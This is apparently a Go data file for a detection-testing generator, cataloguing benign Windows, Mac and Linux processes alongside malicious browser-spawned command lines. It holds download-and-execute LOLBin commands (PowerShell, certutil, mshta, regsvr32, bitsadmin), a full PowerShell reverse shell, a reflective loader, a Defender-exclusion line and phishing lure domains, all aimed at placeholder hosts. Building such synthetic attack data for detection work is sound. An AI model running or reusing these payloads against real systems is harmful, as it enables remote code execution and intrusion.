package gen

// The static catalog: Windows processes with their usual parents and command lines, the seed
// query's browsers and child processes with malicious command lines, and the word lists that
// hosts, users, URLs and payloads are built from. All of it is invented for benchmarks and
// tests; paths and flags follow what Windows, browsers and common LOLBin tradecraft look like.

// procSpec describes one Windows executable. dir is the path after the volume, with a trailing
// backslash (a template: it may name the user's profile folder). weight is how often it appears as an ordinary (benign) child process.
type procSpec struct {
	base    string
	dir     string
	weight  int
	parents []string // base names of usual parents (each must be in the catalog)
	cmds    []string // benign command lines
}

var winProcs = []procSpec{
	{"services.exe", `Windows\System32\`, 0, []string{"wininit.exe"}, []string{`C:\Windows\system32\services.exe`}},
	{"wininit.exe", `Windows\System32\`, 0, []string{"smss.exe"}, []string{`wininit.exe`}},
	{"smss.exe", `Windows\System32\`, 0, []string{"smss.exe"}, []string{`\SystemRoot\System32\smss.exe 000000b4 00000080`}},
	{"userinit.exe", `Windows\System32\`, 0, []string{"winlogon.exe"}, []string{`C:\Windows\system32\userinit.exe`}},
	{"winlogon.exe", `Windows\System32\`, 0, []string{"smss.exe"}, []string{`winlogon.exe`}},
	{"SearchIndexer.exe", `Windows\System32\`, 0, []string{"services.exe"}, []string{`C:\Windows\system32\SearchIndexer.exe /Embedding`}},
	{"CcmExec.exe", `Windows\CCM\`, 0, []string{"services.exe"}, []string{`C:\Windows\CCM\CcmExec.exe`}},
	{"MsMpEng.exe", `ProgramData\Microsoft\Windows Defender\Platform\4.18.25010.11-0\`, 0, []string{"services.exe"}, []string{`"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25010.11-0\MsMpEng.exe"`}},
	{"java.exe", `Program Files\Eclipse Adoptium\jdk-21.0.5.11-hotspot\bin\`, 0, []string{"explorer.exe"}, []string{`"C:\Program Files\Eclipse Adoptium\jdk-21.0.5.11-hotspot\bin\java.exe" -Xmx2g -jar C:\Tools\build-agent\agent.jar`}},

	{"svchost.exe", `Windows\System32\`, 20, []string{"services.exe"}, []string{
		`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
		`C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog`,
		`C:\Windows\System32\svchost.exe -k wsappx -p -s AppXSvc`,
		`C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_«H5»`,
		`C:\Windows\system32\svchost.exe -k DcomLaunch -p`,
		`C:\Windows\System32\svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain`,
	}},
	{"chrome.exe", `Program Files\Google\Chrome\Application\`, 14, []string{"chrome.exe"}, []string{
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle=«N»,i,«NN»,«NN»,262144 --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=«N» --time-ticks-at-unix-epoch=-«NN» --launch-time-ticks=«NN» --mojo-platform-channel-handle=«N» /prefetch:1`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAACAAAAAAAAAAIAAAAAAAAA --field-trial-handle=«N»,i,«NN»,«NN»,262144 --mojo-platform-channel-handle=«N» /prefetch:2`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --field-trial-handle=«N»,i,«NN»,«NN»,262144 --mojo-platform-channel-handle=«N» /prefetch:3`,
	}},
	{"msedge.exe", `Program Files (x86)\Microsoft\Edge\Application\`, 10, []string{"msedge.exe"}, []string{
		`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --instant-process --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1.25 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=«N» --mojo-platform-channel-handle=«N» --field-trial-handle=«N»,i,«NN»,«NN»,262144 /prefetch:1`,
		`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US --service-sandbox-type=service --mojo-platform-channel-handle=«N» --field-trial-handle=«N»,i,«NN»,«NN»,262144 /prefetch:8`,
	}},
	{"firefox.exe", `Program Files\Mozilla Firefox\`, 4, []string{"firefox.exe"}, []string{
		`"C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc --channel=«N» -childID «N» -isForBrowser -prefsLen «N» -prefMapSize 244481 -jsInitLen 234236 -parentBuildID 20260105091526 -win32kLockedDown -appDir "C:\Program Files\Mozilla Firefox\browser" - «N» tab`,
		`"C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc --channel=«N» -parentBuildID 20260105091526 -prefsLen «N» -prefMapSize 244481 -appDir "C:\Program Files\Mozilla Firefox\browser" - «N» gpu`,
	}},
	{"conhost.exe", `Windows\System32\`, 8, []string{"cmd.exe", "powershell.exe", "git.exe"}, []string{
		`\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`,
		`\??\C:\WINDOWS\system32\conhost.exe 0x4`,
	}},
	{"RuntimeBroker.exe", `Windows\System32\`, 4, []string{"svchost.exe"}, []string{`C:\Windows\System32\RuntimeBroker.exe -Embedding`}},
	{"backgroundTaskHost.exe", `Windows\System32\`, 3, []string{"svchost.exe"}, []string{
		`"C:\WINDOWS\system32\backgroundTaskHost.exe" -ServerName:App.AppX«H32».mca`,
		`"C:\WINDOWS\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider`,
	}},
	{"SearchProtocolHost.exe", `Windows\System32\`, 3, []string{"SearchIndexer.exe"}, []string{
		`"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe«N»_ Global\UsGthrCtrlFltPipeMssGthrPipe«N» 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon" `,
	}},
	{"WmiPrvSE.exe", `Windows\System32\wbem\`, 2, []string{"svchost.exe"}, []string{`C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`}},
	{"dllhost.exe", `Windows\System32\`, 3, []string{"svchost.exe"}, []string{`C:\Windows\system32\DllHost.exe /Processid:{«GUID»}`}},
	{"taskhostw.exe", `Windows\System32\`, 2, []string{"svchost.exe"}, []string{`taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}`, `taskhostw.exe Install $(Arg0)`}},
	{"explorer.exe", `Windows\`, 1, []string{"userinit.exe"}, []string{`C:\WINDOWS\Explorer.EXE`}},
	{"cmd.exe", `Windows\System32\`, 3, []string{"explorer.exe", "svchost.exe", "Code.exe", "java.exe"}, []string{
		`C:\WINDOWS\system32\cmd.exe /d /s /c ""C:\Program Files\Git\cmd\git.exe" rev-parse --show-toplevel"`,
		`C:\Windows\system32\cmd.exe /c "C:\Tools\build-agent\scripts\run-step-«N».cmd"`,
		`"C:\WINDOWS\system32\cmd.exe" /c echo «N» > nul`,
		`C:\Windows\system32\cmd.exe /c ipconfig /all > C:\Users\«USER»\AppData\Local\Temp\net-«H8».txt`,
	}},
	{"powershell.exe", `Windows\System32\WindowsPowerShell\v1.0\`, 3, []string{"svchost.exe", "CcmExec.exe", "explorer.exe", "cmd.exe", "WmiPrvSE.exe"}, []string{
		`"C:\WINDOWS\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -File "C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\DataCollection\«H8».ps1"`,
		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -EncodedCommand «B64»`,
		`powershell.exe -NoLogo -NonInteractive -Command "Get-CimInstance Win32_OperatingSystem | Select-Object LastBootUpTime"`,
		`"C:\WINDOWS\System32\WindowsPowerShell\v1.0\powershell.exe" -Command "Invoke-WebRequest -Uri https://packages.corp.example/agent/latest.msi -OutFile $env:TEMP\agent.msi"`,
	}},
	{"rundll32.exe", `Windows\System32\`, 2, []string{"svchost.exe", "explorer.exe"}, []string{
		`C:\Windows\system32\rundll32.exe C:\Windows\system32\shell32.dll,SHCreateLocalServerRunDll {«GUID»} -Embedding`,
		`"C:\Windows\system32\rundll32.exe" C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask`,
	}},
	{"msiexec.exe", `Windows\System32\`, 1, []string{"services.exe"}, []string{`C:\Windows\system32\msiexec.exe /V`, `C:\Windows\System32\MsiExec.exe -Embedding «H32» E Global\MSI0000`}},
	{"git.exe", `Program Files\Git\cmd\`, 2, []string{"Code.exe", "cmd.exe"}, []string{
		`"C:\Program Files\Git\cmd\git.exe" fetch --all --prune`,
		`"C:\Program Files\Git\cmd\git.exe" -c core.quotepath=false status -z -uall`,
	}},
	{"Code.exe", `Program Files\Microsoft VS Code\`, 2, []string{"explorer.exe", "Code.exe"}, []string{
		`"C:\Program Files\Microsoft VS Code\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --field-trial-handle=«N»,i,«NN»,«NN»,262144 /prefetch:8`,
		`"C:\Program Files\Microsoft VS Code\Code.exe" "C:\Users\«USER»\source\repos\billing-api"`,
	}},
	{"ms-teams.exe", `Program Files\WindowsApps\MSTeams_25010.205.3398.3212_x64__8wekyb3d8bbwe\`, 2, []string{"explorer.exe", "svchost.exe"}, []string{
		`"C:\Program Files\WindowsApps\MSTeams_25010.205.3398.3212_x64__8wekyb3d8bbwe\ms-teams.exe" msteams:system-initiated`,
	}},
	{"OUTLOOK.EXE", `Program Files\Microsoft Office\root\Office16\`, 1, []string{"explorer.exe"}, []string{`"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle`}},
	{"WINWORD.EXE", `Program Files\Microsoft Office\root\Office16\`, 1, []string{"explorer.exe", "OUTLOOK.EXE"}, []string{`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\«USER»\Downloads\«FILE».docx" /o ""`}},
	{"notepad.exe", `Windows\System32\`, 1, []string{"explorer.exe", "chrome.exe", "msedge.exe"}, []string{`"C:\Windows\system32\NOTEPAD.EXE" C:\Users\«USER»\Downloads\«FILE».txt`}},
	{"AcroRd32.exe", `Program Files (x86)\Adobe\Acrobat Reader DC\Reader\`, 1, []string{"explorer.exe", "chrome.exe", "msedge.exe", "firefox.exe"}, []string{`"C:\Program Files (x86)\Adobe\Acrobat Reader DC\Reader\AcroRd32.exe" "C:\Users\«USER»\Downloads\«FILE».pdf"`}},
	{"MpCmdRun.exe", `ProgramData\Microsoft\Windows Defender\Platform\4.18.25010.11-0\`, 1, []string{"MsMpEng.exe", "svchost.exe"}, []string{`"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25010.11-0\MpCmdRun.exe" SignaturesUpdateService -ScheduleJob -UnmanagedUpdate`}},
	{"WerFault.exe", `Windows\System32\`, 1, []string{"svchost.exe"}, []string{`C:\Windows\system32\WerFault.exe -u -p «N» -s «N»`}},
	{"smartscreen.exe", `Windows\System32\`, 1, []string{"svchost.exe"}, []string{`C:\Windows\System32\smartscreen.exe -Embedding`}},
	{"ZoomInstallerFull.exe", `Users\«USER»\Downloads\`, 1, []string{"chrome.exe", "msedge.exe"}, []string{`"C:\Users\«USER»\Downloads\ZoomInstallerFull.exe" /silent`}},
	{"iexplore.exe", `Program Files\Internet Explorer\`, 0, []string{"explorer.exe"}, []string{`"C:\Program Files\Internet Explorer\iexplore.exe" SCODEF:«N» CREDAT:«N» /prefetch:2`}},
	{"opera.exe", `Users\«USER»\AppData\Local\Programs\Opera\`, 0, []string{"explorer.exe"}, []string{`"C:\Users\«USER»\AppData\Local\Programs\Opera\opera.exe" --single-argument «URL»`}},
	{"brave.exe", `Program Files\BraveSoftware\Brave-Browser\Application\`, 0, []string{"explorer.exe"}, []string{`"C:\Program Files\BraveSoftware\Brave-Browser\Application\brave.exe" --profile-directory=Default`}},
	{"vivaldi.exe", `Users\«USER»\AppData\Local\Vivaldi\Application\`, 0, []string{"explorer.exe"}, []string{`"C:\Users\«USER»\AppData\Local\Vivaldi\Application\vivaldi.exe"`}},
	{"browser.exe", `Users\«USER»\AppData\Local\Yandex\YandexBrowser\Application\`, 0, []string{"explorer.exe"}, []string{`"C:\Users\«USER»\AppData\Local\Yandex\YandexBrowser\Application\browser.exe" --single-argument «URL»`}},
	{"chromium.exe", `Users\«USER»\AppData\Local\Chromium\Application\`, 0, []string{"explorer.exe"}, []string{`"C:\Users\«USER»\AppData\Local\Chromium\Application\chromium.exe"`}},
	{"msedgewebview2.exe", `Program Files (x86)\Microsoft\EdgeWebView\Application\131.0.2903.112\`, 0, []string{"ms-teams.exe"}, []string{`"C:\Program Files (x86)\Microsoft\EdgeWebView\Application\131.0.2903.112\msedgewebview2.exe" --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe`}},
	{"powershell_ise.exe", `Windows\System32\WindowsPowerShell\v1.0\`, 0, []string{"explorer.exe"}, []string{`"C:\WINDOWS\system32\WindowsPowerShell\v1.0\PowerShell_ISE.exe"`}},
}

// The browsers of the seed query (ParentBaseFileName), with the command lines they are started
// with (they appear as ParentCommandLine) and a weight for being the parent of a planted match.
var browserSpecs = []struct {
	base   string
	weight int
	cmds   []string
}{
	{"chrome.exe", 40, []string{
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --profile-directory=Default`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --single-argument «URL»`,
	}},
	{"msedge.exe", 30, []string{
		`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default`,
		`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument microsoft-edge:«URL»`,
	}},
	{"firefox.exe", 10, []string{`"C:\Program Files\Mozilla Firefox\firefox.exe" -osint -url «URL»`}},
	{"iexplore.exe", 5, []string{`"C:\Program Files\Internet Explorer\iexplore.exe" SCODEF:«N» CREDAT:«N» /prefetch:2`}},
	{"opera.exe", 4, []string{`"C:\Users\«USER»\AppData\Local\Programs\Opera\opera.exe" --single-argument «URL»`}},
	{"brave.exe", 4, []string{`"C:\Program Files\BraveSoftware\Brave-Browser\Application\brave.exe" --profile-directory=Default`}},
	{"vivaldi.exe", 3, []string{`"C:\Users\«USER»\AppData\Local\Vivaldi\Application\vivaldi.exe"`}},
	{"browser.exe", 4, []string{`"C:\Users\«USER»\AppData\Local\Yandex\YandexBrowser\Application\browser.exe" --single-argument «URL»`}},
}

// The seed query's child processes, as started from a browser by a malicious link.
var maliciousChildren = []struct {
	base   string
	dir    string
	weight int
	cmds   []string
}{
	{"powershell.exe", `Windows\System32\WindowsPowerShell\v1.0\`, 40, []string{
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -WindowStyle Hidden -EncodedCommand «B64»`,
		`powershell.exe -nop -w hidden -e «B64»`,
		`powershell -NoP -NonI -W Hidden -Exec Bypass -Enc «B64»`,
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -ec «B64»`,
		`powershell.exe -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('«URL»')"`,
		`powershell.exe -w hidden -c "Invoke-WebRequest -Uri «URL» -OutFile $env:TEMP\«FILE».exe; Start-Process $env:TEMP\«FILE».exe"`,
		`powershell -c "$wc=New-Object System.Net.WebClient;$wc.DownloadFile('«URL»',\"$env:APPDATA\«H8».exe\")"`,
		`powershell.exe -nop -c "Start-BitsTransfer -Source «URL» -Destination C:\Users\«USER»\AppData\Local\Temp\«H8».dll"`,
		`powershell.exe -enc «B64» -c "iex(New-Object Net.WebClient).DownloadString('«URL»')"`,
		`powershell.exe -NoProfile -EncodedCommand «B64»; Invoke-Expression (iwr «URL»).Content`,
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -ExecutionPolicy Bypass -WindowStyle Hidden -File "C:\Users\«USER»\Downloads\«FILE».ps1"`,
		"powershell.exe -enc\t«B64»",
	}},
	{"pwsh.exe", `Program Files\PowerShell\7\`, 4, []string{
		`"C:\Program Files\PowerShell\7\pwsh.exe" -NoLogo -Command "iwr «URL» -UseBasicParsing | iex"`,
		`"C:\Program Files\PowerShell\7\pwsh.exe" -e «B64»`,
	}},
	{"cmd.exe", `Windows\System32\`, 15, []string{
		`"C:\Windows\System32\cmd.exe" /c start /b powershell -nop -enc «B64»`,
		`C:\Windows\system32\cmd.exe /c "C:\Users\«USER»\Downloads\«FILE».bat"`,
		`cmd.exe /c curl -s -o %TEMP%\«FILE».exe «URL» && %TEMP%\«FILE».exe`,
		`cmd.exe /q /c echo «H8» > \\.\pipe\«H8»`,
		`cmd.exe`,
	}},
	{"mshta.exe", `Windows\System32\`, 8, []string{
		`"C:\Windows\System32\mshta.exe" "«URL»"`,
		`mshta.exe javascript:a=GetObject("script:«URL»").Exec();close();`,
		`mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -enc «B64»"", 0:close")`,
		`"C:\Windows\System32\mshta.exe" "C:\Users\«USER»\AppData\Local\Microsoft\Windows\INetCache\IE\«H8»\«FILE».hta" `,
	}},
	{"wscript.exe", `Windows\System32\`, 5, []string{
		`"C:\Windows\System32\WScript.exe" "C:\Users\«USER»\Downloads\«FILE».vbs"`,
		`wscript.exe //E:jscript "C:\Users\«USER»\AppData\Local\Temp\«FILE».js"`,
	}},
	{"cscript.exe", `Windows\System32\`, 3, []string{`cscript.exe //nologo "C:\Users\«USER»\Downloads\«FILE».js"`}},
	{"rundll32.exe", `Windows\System32\`, 5, []string{
		`rundll32.exe "C:\Users\«USER»\AppData\Local\Temp\«H8».dll",DllRegisterServer`,
		`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:«URL»")`,
	}},
	{"regsvr32.exe", `Windows\System32\`, 3, []string{`regsvr32.exe /s /n /u /i:«URL» scrobj.dll`}},
	{"certutil.exe", `Windows\System32\`, 4, []string{
		`certutil.exe -urlcache -split -f «URL» C:\Users\Public\«H8».exe`,
		`certutil -decode C:\Users\«USER»\Downloads\«FILE».txt C:\Users\«USER»\AppData\Local\Temp\«H8».dll`,
	}},
	{"bitsadmin.exe", `Windows\System32\`, 3, []string{`bitsadmin /transfer «H8» /download /priority high «URL» C:\Users\«USER»\AppData\Local\Temp\«FILE».exe`}},
	{"msiexec.exe", `Windows\System32\`, 2, []string{`msiexec.exe /q /i «URL»`}},
	{"wmic.exe", `Windows\System32\wbem\`, 1, []string{`wmic process call create "powershell -w hidden -e «B64»"`}},
	{"MSBuild.exe", `Windows\Microsoft.NET\Framework64\v4.0.30319\`, 1, []string{`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\«USER»\AppData\Local\Temp\«FILE».xml`}},
	{"csc.exe", `Windows\Microsoft.NET\Framework64\v4.0.30319\`, 1, []string{`"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Users\«USER»\AppData\Local\Temp\«H8».cmdline"`}},
	{"InstallUtil.exe", `Windows\Microsoft.NET\Framework64\v4.0.30319\`, 1, []string{`InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\«USER»\Downloads\«FILE».dll`}},
	{"RegAsm.exe", `Windows\Microsoft.NET\Framework64\v4.0.30319\`, 1, []string{`RegAsm.exe /U C:\Users\«USER»\AppData\Local\Temp\«H8».dll`}},
	{"RegSvcs.exe", `Windows\Microsoft.NET\Framework64\v4.0.30319\`, 1, []string{`RegSvcs.exe C:\Users\«USER»\AppData\Local\Temp\«H8».dll`}},
	{"odbcconf.exe", `Windows\System32\`, 1, []string{`odbcconf.exe /a {REGSVR C:\Users\«USER»\AppData\Local\Temp\«H8».dll}`}},
	{"forfiles.exe", `Windows\System32\`, 1, []string{`forfiles /p c:\windows\system32 /m notepad.exe /c "cmd /c mshta «URL»"`}},
	{"pcalua.exe", `Windows\System32\`, 1, []string{`pcalua.exe -a C:\Users\«USER»\Downloads\«FILE».exe`}},
}

// Near misses: a browser parent whose child is not in the query's list, or a parent that is not
// one of the query's browsers (the regexes are anchored).
var nearMissChildren = []string{"powershell_ise.exe", "msedgewebview2.exe", "chromium.exe", "notepad.exe", "ZoomInstallerFull.exe", "AcroRd32.exe"}
var nearMissParents = []string{"chromium.exe", "msedgewebview2.exe", "explorer.exe", "OUTLOOK.EXE", "WINWORD.EXE", "ms-teams.exe"}

// PowerShell scripts that payloads encode (UTF-16LE, base64), with «IP» and «H8» filled per payload.
var psScripts = []string{
	`IEX (New-Object Net.WebClient).DownloadString('http://«IP»/«H8».ps1')`,
	`$c=New-Object System.Net.Sockets.TCPClient('«IP»',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){;$d=(New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$t=([text.encoding]::ASCII).GetBytes($r);$s.Write($t,0,$t.Length)}`,
	`Start-Sleep -s 3; iwr http://«IP»/«H8».exe -OutFile $env:TEMP\«H8».exe; saps $env:TEMP\«H8».exe`,
	`[Net.ServicePointManager]::SecurityProtocol='Tls12';$u='https://«IP»/c/«H8»';$p=(New-Object Net.WebClient).DownloadData($u);[Reflection.Assembly]::Load($p).EntryPoint.Invoke($null,$null)`,
	`Add-MpPreference -ExclusionPath $env:APPDATA; Invoke-RestMethod -Uri http://«IP»/s | Invoke-Expression`,
}

var lureDomains = []string{
	"docs-share-cloud.com", "onedrive-filestore.net", "dl-dropbox-content.org", "secure-invoice-portal.com",
	"cdn-updates-service.net", "sharepoint-docs-view.com", "mail-attachments-viewer.net", "drive-google-usercontent.co",
	"parcel-tracking-dhl.info", "hr-benefits-update.com", "teams-meeting-join.net", "adobe-reader-update.org",
}

var lureFiles = []string{
	"Invoice_2026_03", "Rechnung_März_2026", "Factura_Diciembre", "scan_0042", "payment_advice",
	"DHL_Shipment_Notice", "Résumé_Jean_Dupont", "見積書_2026", "order_details", "statement_Q4",
	"HR_Policy_Update", "salary_adjustment_2026", "Überweisung_Bestätigung", "contrato_firmado", "Счёт_на_оплату",
}

var urlPaths = []string{
	"/download/«FILE».hta", "/s/«H16»/«FILE».ps1", "/view?id=«H16»&dl=1", "/files/«H8»/«FILE».exe",
	"/api/v2/get?token=«H32»&name=«FILE».msi", "/wp-content/uploads/2026/01/«H8».sct", "/«H8».png",
}

var benignDomains = []string{
	"www.google.com", "login.microsoftonline.com", "outlook.office365.com", "settings-win.data.microsoft.com",
	"v10.events.data.microsoft.com", "clients2.google.com", "update.googleapis.com", "teams.microsoft.com",
	"github.com", "api.github.com", "objects.githubusercontent.com", "slack.com", "edge.microsoft.com",
	"fonts.gstatic.com", "www.bing.com", "ocsp.digicert.com", "ctldl.windowsupdate.com", "time.windows.com",
	"wpad.corp.example", "dc01.corp.example", "fileserver.corp.example", "intranet.corp.example",
	"packages.corp.example", "ts.falcon.crowdstrike.com", "lfodown01-b.cloudsink.net", "assets.msn.com",
	"self.events.data.microsoft.com", "browser.events.data.msn.com", "nav.smartscreen.microsoft.com",
	"accounts.google.com", "mail.google.com", "docs.google.com", "www.youtube.com", "zoom.us",
}

var firstNames = []string{
	"james", "mary", "robert", "patricia", "john", "jennifer", "michael", "linda", "david", "elizabeth",
	"william", "barbara", "richard", "susan", "joseph", "jessica", "thomas", "sarah", "charles", "karen",
	"josé", "maría", "jürgen", "françoise", "søren", "łukasz", "zoë", "björn", "ana", "ömer", "renée",
	"raúl", "agnès", "dvořák", "siobhán", "thành", "çağla", "noël",
}

var lastNames = []string{
	"smith", "johnson", "williams", "brown", "jones", "garcia", "miller", "davis", "rodriguez", "martinez",
	"hernandez", "lopez", "gonzalez", "wilson", "anderson", "thomas", "taylor", "moore", "jackson", "martin",
	"müller", "garcía", "núñez", "kowalczyk", "øvergaard", "şahin", "lefèvre", "nguyễn", "schröder",
}

// Whole user names that are not first.last.
var specialUsers = []string{"田中太郎", "김민준", "Администратор", "svc_backup", "svc-sqlagent", "adm.jsmith", "ΝΙΚΟΣ"}

var siteCodes = []string{"NYC", "LON", "FRA", "SIN", "SFO", "TOR", "MUC", "SYD"}
var deptCodes = []string{"FIN", "ENG", "HR", "MKT", "OPS", "SAL", "LEG", "IT"}

// Mac and Linux processes (not what the seed query looks for).
var unixProcs = []struct {
	mac          bool
	image, pbase string
	cmd          string
}{
	{false, "/usr/bin/bash", "sshd", "-bash"},
	{false, "/usr/bin/python3.12", "bash", "python3 /opt/app/worker.py --queue default --concurrency «N»"},
	{false, "/usr/sbin/cron", "cron", "/usr/sbin/CRON -f -P"},
	{false, "/usr/bin/pgbackrest", "bash", "pgbackrest --stanza=main archive-get 0000000200«H8»0000009F pg_wal/RECOVERYXLOG"},
	{false, "/usr/bin/curl", "bash", "curl -fsSL https://packages.corp.example/keys/«H8».asc -o /tmp/«H8».asc"},
	{false, "/usr/lib/systemd/systemd-journald", "systemd", "/usr/lib/systemd/systemd-journald"},
	{true, "/bin/sh", "launchd", "/bin/sh -s unix:cmd"},
	{true, "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/131.0.6778.205/Helpers/Google Chrome Helper (Renderer).app/Contents/MacOS/Google Chrome Helper (Renderer)", "Google Chrome", "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/131.0.6778.205/Helpers/Google Chrome Helper (Renderer).app/Contents/MacOS/Google Chrome Helper (Renderer) --type=renderer --lang=en-US --num-raster-threads=4 --renderer-client-id=«N» --seatbelt-client=«N»"},
	{true, "/usr/bin/osascript", "Google Chrome", "osascript -e do shell script \"curl -s «URL» | sh\""},
	{true, "/bin/zsh", "login", "-zsh"},
	{true, "/usr/libexec/xpcproxy", "launchd", "xpcproxy com.apple.mdworker.shared.«H8»"},
}
